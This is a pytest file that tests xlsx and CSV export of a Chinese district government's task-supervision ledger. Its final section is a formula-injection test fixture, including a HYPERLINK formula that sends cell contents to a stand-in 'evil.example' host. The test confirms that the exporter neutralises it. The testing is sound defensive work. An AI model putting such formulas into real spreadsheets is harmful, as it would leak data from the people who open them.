"""The 督办台账 (kg.export.ledger, kg export --format xlsx, kg ledger) on the bundled corpus, read back with
openpyxl and printed with LibreOffice; and formula injection (issue 19 item 17) in xlsx and CSV.

Expected values are read from corpus/000 by eye: task 1 （牵头单位：区委编办、区委区政府督察和绩效办，
区政管办、区司法局、区发展和改革局、区商务局、区市场监管局；配合单位：区政府其他有关部门）, 2022年年底前;
task 4 has no deadline and the city report 003 names 城中区 in 城中区建成并启用…“办不成事”反映窗口.
"""
from __future__ import annotations

import csv
import io
import shutil
import subprocess

import pytest

DG = "https://w3id.org/dutygraph/ontology#"


@pytest.fixture(scope="module")
def built(corpus_build):
    return corpus_build


@pytest.fixture(scope="module")
def book(built, tmp_path_factory):
    from openpyxl import load_workbook

    from kg.export.formats import export

    p = export(built, "xlsx", tmp_path_factory.mktemp("x") / "ledger.xlsx", on="2025-01-01")
    return p, load_workbook(p)


def test_sheets_are_named_by_short_title(book):
    _, wb = book
    assert wb.sheetnames == ["城中区法治政府建设方案", "XX市法治政府建设实施方案", "责任分工表"]


def test_one_row_per_task_in_chinese(book):
    _, wb = book
    ws = wb["城中区法治政府建设方案"]
    assert ws["A1"].value.startswith("柳州市城中区贯彻执行《柳州市落实〈广西法治政府建设实施方案(2021-2025年)〉工作方案》")
    assert ws["A1"].value.endswith("任务督办台账") and "A1:I1" in {str(r) for r in ws.merged_cells.ranges}
    assert "地区：柳州市城中区" in ws["A2"].value and "状态日期：2025-01-01" in ws["A2"].value
    head = [c.value for c in ws[3]]
    assert head == ["序号", "任务", "牵头单位", "配合单位", "完成时限", "状态", "说明", "落实证据", "证据来源"]
    rows = [[c.value for c in r] for r in ws.iter_rows(min_row=4, max_row=3 + 47)]
    assert [r[0] for r in rows] == list(range(1, 48))  # numbers as numbers, 47 tasks
    assert all(isinstance(r[7], int) for r in rows)
    assert ws.cell(row=4 + 47, column=1).value is None  # then a blank row and the legend
    assert rows[0][1:8] == ["全面实行政府权责清单制度",
                            "区委编办、区委区政府督察和绩效办、区政管办、区司法局、区发展和改革局、区商务局、区市场监管局",
                            "区政府其他有关部门", "2022年年底前", "红", "已逾期，未见落实证据", 0]
    # task 4: no deadline, one measure of the city report names 城中区
    assert rows[3][1] == "依法依规开展政务服务" and rows[3][4] is None
    assert rows[3][5:9] == ["绿", "无明确时限，已有落实证据", 1, "柳州市2021年度法治政府建设情况报告"]
    # overdue on 2025-01-01 with nothing from 城中区: tasks 1, 3, 24, 31, 34 (deadlines 2022/2024年年底前)
    assert [r[0] for r in rows if r[5] == "红"] == [1, 3, 24, 31, 34]
    # status cells are coloured
    fills = {ws.cell(row=4 + i, column=6).fill.fgColor.rgb for i in (0, 3)}
    assert fills == {"FFF4A6A6", "FFB7DEA8"}


def test_xx_plan_has_a_responsible_column(book):
    _, wb = book
    ws = wb["XX市法治政府建设实施方案"]
    assert [c.value for c in ws[3]][2:5] == ["牵头单位", "配合单位", "责任单位"]


def test_print_setup(book):
    _, wb = book
    for name in wb.sheetnames:
        ws = wb[name]
        assert ws.page_setup.orientation == "landscape" and int(ws.page_setup.paperSize) == 9  # A4
        assert ws.sheet_properties.pageSetUpPr.fitToPage and ws.page_setup.fitToWidth == 1
        assert ws.page_setup.fitToHeight == 0
    ws = wb["城中区法治政府建设方案"]
    assert ws.freeze_panes == "A4" and ws.auto_filter.ref == "A3:I50" and ws.print_title_rows == "$3:$3"
    units = wb["责任分工表"]
    assert units.freeze_panes == "A2" and units.print_title_rows == "$1:$1"


def test_unit_sheet_is_the_csv_in_chinese(built, book):
    from kg.export.formats import render
    from kg.query.store import Store

    _, wb = book
    ws = wb["责任分工表"]
    rows = list(csv.DictReader(io.StringIO(render(Store.open(built), "csv").decode("utf-8-sig"))))
    sheet = [[c.value for c in r] for r in ws.iter_rows(min_row=2)]
    assert len(sheet) == len(rows)
    first = [r for r in sheet if r[0].startswith("000") and r[4] == 1]
    assert [(r[6], r[7]) for r in first][:2] == [("牵头", "区委编办"), ("牵头", "区委区政府督察和绩效办")]
    assert first[-1][6:8] == ["配合", "区政府其他有关部门"] and first[0][1] == "县区级"


def test_statuses():
    import datetime as dt

    from kg.export.ledger import status

    on = dt.date(2023, 1, 1)
    assert status("2022-12-31", on, 0) == ("red", "overdue")
    assert status("2022-12-31", on, 2) == ("yellow", "overdue+")
    assert status("2023-01-31", on, 0) == ("yellow", "soon")
    assert status("2023-01-31", on, 1) == ("green", "soon+")
    assert status("2023-02-01", on, 0) == ("green", "later")
    assert status(None, on, 0) == ("green", "none")


def test_a_report_counts_once_its_year_is_over(built):
    from kg.export.ledger import ledger
    from kg.query.store import Store

    st = Store.open(built)
    during = next(s for s in ledger(st, on="2021-12-31") if s.document.startswith("000"))
    after = next(s for s in ledger(st, on="2022-06-30") if s.document.startswith("000"))
    assert during.rows[3]["evidence"] == 0 and after.rows[3]["evidence"] == 1
    soon = next(s for s in ledger(st, on="2022年12月15日") if s.document.startswith("000"))
    assert (soon.rows[0]["status"], soon.rows[0]["note"]) == ("yellow", "soon")  # due 2022-12-31


def test_cli_ledger_and_export(built, tmp_path):
    from openpyxl import load_workbook
    from typer.testing import CliRunner

    from kg.cli import app

    r = CliRunner().invoke(app, ["ledger", "--graph", str(built), "--doc", "000", "--on", "2025年1月1日",
                                 "--format", "csv"])
    assert r.exit_code == 0, r.output
    rows = list(csv.DictReader(io.StringIO(r.stdout.lstrip("\ufeff"))))
    assert len(rows) == 47 and rows[0]["status"] == "red" and rows[3]["reported"] == "1"
    r = CliRunner().invoke(app, ["ledger", "--graph", str(built), "--doc", "000", "--on", "2025-01-01",
                                 "--format", "csv", "--lang", "zh"])
    rows = list(csv.DictReader(io.StringIO(r.stdout.lstrip("\ufeff"))))
    assert rows[0]["状态"] == "红" and rows[0]["序号"] == "1"
    r = CliRunner().invoke(app, ["ledger", "--graph", str(built), "--doc", "000", "--on", "2025-01-01",
                                 "--out", str(tmp_path / "l.xlsx")])
    assert r.exit_code == 0, r.output
    assert load_workbook(tmp_path / "l.xlsx").sheetnames == ["城中区法治政府建设方案", "责任分工表"]
    r = CliRunner().invoke(app, ["export", "--graph", str(built), "--format", "xlsx", "--on", "2025.1.1",
                                 "--out", str(tmp_path / "e.xlsx")])
    assert r.exit_code == 0, r.output
    assert load_workbook(tmp_path / "e.xlsx")["城中区法治政府建设方案"]["F4"].value == "红"


@pytest.mark.skipif(not (shutil.which("soffice") and shutil.which("pdftoppm")),
                    reason="LibreOffice (libreoffice-calc) and pdftoppm (poppler-utils) are needed to print the "
                           "ledger; .ci/system-deps.sh installs them")
def test_ledger_prints_a_page_per_plan(book, tmp_path):
    """LibreOffice prints the workbook: each plan's sheet on A4 landscape pages, and pdftoppm makes
    the PNG kept in tests/artifacts/ (the README's picture comes from this)."""
    from pathlib import Path

    p, _ = book
    profile = tmp_path / "lo-profile"
    subprocess.run(["soffice", f"-env:UserInstallation=file://{profile}", "--headless", "--convert-to", "pdf",
                    "--outdir", str(tmp_path), str(p)], check=True, capture_output=True, timeout=180)
    pdf = tmp_path / "ledger.pdf"
    info = subprocess.run(["pdfinfo", str(pdf)], capture_output=True, text=True).stdout
    assert "841.89 x 595.3" in info  # A4 landscape, in points
    pages = int(next(line.split()[-1] for line in info.splitlines() if line.startswith("Pages:")))
    assert pages >= 3
    text = subprocess.run(["pdftotext", "-layout", "-f", "1", "-l", "1", str(pdf), "-"], capture_output=True,
                          text=True).stdout
    for word in ("任务督办台账", "序号", "牵头单位", "配合单位", "完成时限", "状态", "全面实行政府权责清单制度", "红"):
        assert word in text, word
    art = Path(__file__).parent / "artifacts"
    art.mkdir(exist_ok=True)
    subprocess.run(["pdftoppm", "-r", "80", "-png", "-f", "1", "-l", "1", "-singlefile", str(pdf),
                    str(art / "ledger-000")], check=True, timeout=60)
    assert (art / "ledger-000.png").stat().st_size > 10_000


# ---------------------------------------------------------------- formula injection (issue 19, item 17)

EVIL = ('=HYPERLINK("http://evil.example/?x="&A1,"点击")', "@SUM(1+1)", "+1+1", "-2+3")


@pytest.fixture(scope="module")
def evil_out(tmp_path_factory):
    from kg.build.outputs import write_outputs
    from test_graph import hand_corpus

    c = hand_corpus()
    d1 = next(d for d in c.documents if d.id == "d1")
    d1.tasks[0].title = EVIL[0]
    d1.tasks[0].units[0].text = EVIL[1]
    d1.tasks[0].units[1].text = EVIL[2]
    d1.tasks[0].units[2].text = EVIL[3]
    out = tmp_path_factory.mktemp("evil") / "out"
    write_outputs(c, out)
    return out


def test_xlsx_text_is_never_a_formula(evil_out, tmp_path):
    from openpyxl import load_workbook

    from kg.export.formats import export

    p = export(evil_out, "xlsx", tmp_path / "t.xlsx", on="2023-01-01")
    wb = load_workbook(p)
    cells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    assert EVIL[0] in values and any(EVIL[1] in str(v) for v in values)


def test_csv_cells_that_start_a_formula_are_quoted(evil_out, tmp_path):
    from kg.export.formats import export

    rows = list(csv.DictReader(open(export(evil_out, "csv", tmp_path / "t.csv"), encoding="utf-8-sig")))
    d1 = [r for r in rows if r["document"] == "d1.txt" and r["task_number"] == "1"]
    assert {r["task_title"] for r in d1} == {"'" + EVIL[0]}
    assert [r["unit_as_written"] for r in d1] == ["'" + EVIL[1], "'" + EVIL[2], "'" + EVIL[3]]
    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())


def test_cli_csv_is_quoted_too(evil_out):
    from typer.testing import CliRunner

    from kg.cli import app

    r = CliRunner().invoke(app, ["tasks-of", "区司法局", "--graph", str(evil_out), "--format", "csv"])
    assert r.exit_code == 0, r.output
    rows = list(csv.DictReader(io.StringIO(r.stdout)))
    assert rows and rows[0]["task_title"] == "'" + EVIL[0]
